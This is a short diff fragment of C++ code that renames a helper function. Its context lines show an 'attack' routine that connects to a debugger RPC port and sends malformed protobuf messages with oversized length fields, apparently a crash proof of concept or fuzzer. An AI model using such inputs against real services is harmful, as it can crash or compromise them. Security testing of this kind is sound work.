@@ -38,7 +38,7 @@ int connect_socket(int port) {
   return -1;
 }
 
-std::string hello() {
+std::string greeting() {
   debugger::Metadata metadata;
   metadata.set_device_name("0:0");
   metadata.set_backend("GPU");
@@ -64,7 +64,7 @@ std::string node_chunk(int nodes, const std::string& name) {
 void attack(int port) {
   const std::unique_ptr<RawClient> client = RawClient::connect(port);
   if (!client) return;
-  (void)client->unary(Rpc::kSendMetadata, hello());
+  (void)client->unary(Rpc::kSendMetadata, greeting());
   for (const char* lie : {"\x1a\xff\xff\xff\xff\x0f", "\x22\xff\xff\xff\xff\x0f\x01", "\x0a\xff\xff\xff\xff\x07"})
     (void)client->repeat(Rpc::kSendTensors, lie, 1);
   for (int type = 0; type <= 60; ++type) {
